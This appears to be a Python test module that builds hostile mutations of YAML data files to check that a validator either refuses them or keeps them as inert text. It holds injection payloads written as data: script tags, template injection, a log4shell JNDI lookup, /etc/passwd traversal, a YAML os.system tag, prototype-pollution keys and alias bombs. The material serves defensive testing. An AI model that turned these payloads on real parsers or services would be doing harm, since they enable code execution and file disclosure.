"""Hostile mutations: text and bytes that break readers, and what must become of them."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from typing import Any

from tests.support.mutation import Mutation, edit, place_of
from tests.support.written import TEXTS, Book, in_block, position, replaced

TYPED = (
    "<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}{% include '/etc/passwd' %}", "${jndi:ldap://192.0.2.1/a}", "a | b | c", "`code` and ``` more",
    "\u202eevitcA\u202c right to left", "\u05d0\u05d1\u05d2 \u0627\u0628\u062c", "zero\u200bwidth\u2060joined\ufeff", "emoji \U0001f9ef\U0001f469\u200d\U0001f52c",
    "e\u0301 combining", "x" * 20_000, "a\\nb \\u0041", "C:\\temp\\new", "'single' and \"double\"", "&amp; &#x6a;avascript", "]]> --> */ <!--",
    "#starts with a hash", "- starts with a dash", ": starts with a colon", "@at", "%percent", "null and void", "../../etc/passwd", "a: b: c", "[not, a, list]",
    "<a href=javascript:x>y</a>", "{not: keys}", "*star* _under_ **", "| pipe", "> quote", "trailing \\", "\u00a0no-break\u00a0", "=1+1", "line one\nline two", "tab\there",
)  # fmt: skip
"""Texts that must arrive as typed."""

KEYS = (
    "<script>",
    "{{ 7*7 }}",
    "\u202eelit",
    "__class__",
    "model_config",
    "spec",
    "__proto__",
    "constructor",
    "id ",
    "ID\u0301",
    "a.b",
    "0",
    "k" * 900,
    "'",
    "\\x",
)
"""Keys that no record has."""


def hostile_text(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """A text field says something that breaks careless readers: it arrives as typed, or is told."""
    for spot in book.spots():
        if spot.holds in TEXTS and spot.scalar and spot.path != ("id",):
            typed = rng.choice(TYPED)
            new = json.dumps(typed, ensure_ascii=typed[0] in "\x1b\x85")
            yield edit("hostile text", book, spot, new, repr(typed[:30]), reads=(place_of(spot)[0], typed))


def hostile_value(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """Such a text stands where an id, a day, a number or a word of a closed list must: told, and nothing else breaks."""
    for spot in book.spots():
        if spot.holds in ("record", "date", "moment", "number", "yes-no", "word", "entry", "question", "file") and spot.scalar:
            typed = rng.choice(TYPED)
            new = json.dumps(typed, ensure_ascii=typed[0] in "\x1b\x85")
            codes = ("unknown-reference", "wrong-type", "unknown-value", "missing-attachment")
            yield edit("hostile value", book, spot, new, repr(typed[:30]), places=place_of(spot), codes=codes)


def block_text(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """A value is written as a text over several lines, so that it ends in a line end: read as if it did not, or told."""
    for spot in book.spots():
        if spot.key is not None and spot.scalar and in_block(spot.parent) and spot.holds and spot.holds not in TEXTS:
            new = "|\n" + " " * (spot.key.start_mark.column + 2) + spot.node.value
            codes = ("unknown-reference", "wrong-type", "unknown-value", "missing-attachment")
            yield edit("block text", book, spot, new, spot.node.value, places=place_of(spot), codes=codes)
        elif spot.path == ("id",) and spot.scalar:
            new = "|\n    " + spot.node.value
            yield edit("block text", book, spot, new, spot.node.value, places=place_of(spot), codes=("malformed-id",))


def hostile_key(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """A key that no record has: told at the key."""
    for spot in book.spots():
        if spot.key is None or spot.key.start_mark.line != spot.key.end_mark.line or spot.path == ("id",):
            continue
        key = rng.choice(KEYS)
        text = replaced(book.texts[spot.file], spot.key, json.dumps(key, ensure_ascii=False))
        place = (spot.file, *position(spot.key))
        what = f"{spot.file}:{place[1]} {key[:20]!r}"
        yield Mutation(operator="hostile key", what=what, changes={spot.file: text}, places=(place,), codes=("unknown-key",))


def after_hash(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """Text after ` #` vanishes: told at the sign; a comment with a space after it is one."""
    for spot in book.spots():
        if not spot.scalar or spot.node.style or spot.node.end_mark.column != len(book.texts[spot.file].split("\n")[spot.node.end_mark.line]):
            continue
        lost, meant = rng.choice(("#4711", "#4711 and more", "#b", "#Überdruck")), rng.choice(("# so", "## so", "#", "#!"))
        place = (spot.file, spot.node.end_mark.line + 1, spot.node.end_mark.column + 2)
        value = book.texts[spot.file].split("\n")[spot.node.start_mark.line][spot.node.start_mark.column : spot.node.end_mark.column]
        yield edit("after hash", book, spot, f"{value} {lost}", lost, places=(place,), codes=("text-after-hash",), alone=True)
        yield edit("comment", book, spot, f"{value} {meant}", meant, same=True)


def yaml_feature(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """Anchors, aliases, tags and merge keys: refused where they stand."""
    for spot in book.spots():
        if not spot.scalar or spot.path == ("id",):
            continue
        value = json.dumps(spot.node.value, ensure_ascii=False)
        new = rng.choice((f"&a {value}", "*a", f"!!str {value}", "!!python/object/apply:os.system ['true']", f"! {value}", "!!binary aGk=", "{<<: {a: b}}"))
        line, column = spot.place
        place = (spot.file, line, column + 1 if new.startswith("{") else column)
        yield edit("yaml feature", book, spot, new, new, places=(place,), codes=("yaml-feature", "yaml-syntax"))


def hostile_bytes(book: Book, rng: random.Random) -> Iterator[Mutation]:
    """Files as other systems write them, and bytes that no text file holds."""
    for file, text in book.files():
        lines = text.split("\n")
        row = rng.randrange(1, len(lines) - 1)
        end = len(lines[row])

        def at(row: int, new: str, lines: list[str] = lines) -> str:
            return "\n".join([*lines[:row], new, *lines[row + 1 :]])

        def told(what: str, content: str | bytes, line: int, column: int, code: str, file: str = file) -> Mutation:
            return Mutation(operator="hostile bytes", what=f"{file}:{line} {what}", changes={file: content}, places=((file, line, column),), codes=(code,))

        def same(what: str, content: str | bytes, file: str = file) -> Mutation:
            return Mutation(operator="hostile bytes", what=f"{file} {what}", changes={file: content}, same=True)

        yield same("CRLF", text.replace("\n", "\r\n").encode())
        yield same("CR", text.replace("\n", "\r").encode())
        yield same("BOM", b"\xef\xbb\xbf" + text.encode())
        yield same("BOM and CRLF", b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
        yield same("document start", "---\n" + text)
        yield same("no last line end", text.rstrip("\n"))
        if not any(line.endswith(("|", "|-", ">", ">-")) for line in lines):  # in texts over several lines, either says something
            yield same("blank lines", text.replace("\n", "\n\n\n"))
            yield same("spaces at line ends", text.replace("\n", "   \n").rstrip(" "))
        for character in ("\0", "\x07", "\x1b", "\x7f", "\ufffe"):
            yield told(f"U+{ord(character):04X}", at(row, lines[row] + character), row + 1, end + 1, "yaml-syntax")
        for character in ("\x85", "\u2028", "\u2029"):
            yield told(f"U+{ord(character):04X}", at(row, lines[row] + character + "more"), row + 1, end + 1, "yaml-syntax")
        yield told("byte", "\n".join([*lines[:row], lines[row]]).encode() + b"\xff\n" + "\n".join(lines[row + 1 :]).encode(), row + 1, end + 1, "not-utf8")
        yield told("UTF-16", text.encode("utf-16"), 1, 1, "not-utf8")
        yield told("tab", at(row, "\t" + lines[row].lstrip()), row + 1, 1, "yaml-syntax")
        yield told("second document", at(row, "---\n" + lines[row]), row + 1, 1, "yaml-syntax")
        more = text.count("\n") + 1
        start = "zzz: " if file == "product.yaml" else "- "
        for what, added, codes in (
            ("nesting", "[" * 60 + "]" * 60, ("too-deep",)),
            ("keys in keys", "{a: " * 60 + "}" * 60, ("too-deep",)),
            ("bomb", "&a [x, x, x, x]\n" + start.replace("z", "y") + "[*a, *a, *a, *a]", ("yaml-feature",)),
            ("itself", "&a [*a]", ("yaml-feature",)),
        ):
            span = (file, more, more + 1)
            yield Mutation(operator="hostile bytes", what=f"{file} {what}", changes={file: f"{text}{start}{added}\n"}, span=span, codes=codes)
        yield Mutation(operator="hostile bytes", what=f"{file} end of document", changes={file: at(row, "...\n" + lines[row])})
        yield Mutation(operator="hostile bytes", what=f"{file} empty", changes={file: ""})
        yield Mutation(operator="hostile bytes", what=f"{file} noise", changes={file: rng.randbytes(400)})


HOSTILE: tuple[Callable[..., Any], ...] = (hostile_text, hostile_value, block_text, hostile_key, after_hash, yaml_feature, hostile_bytes)
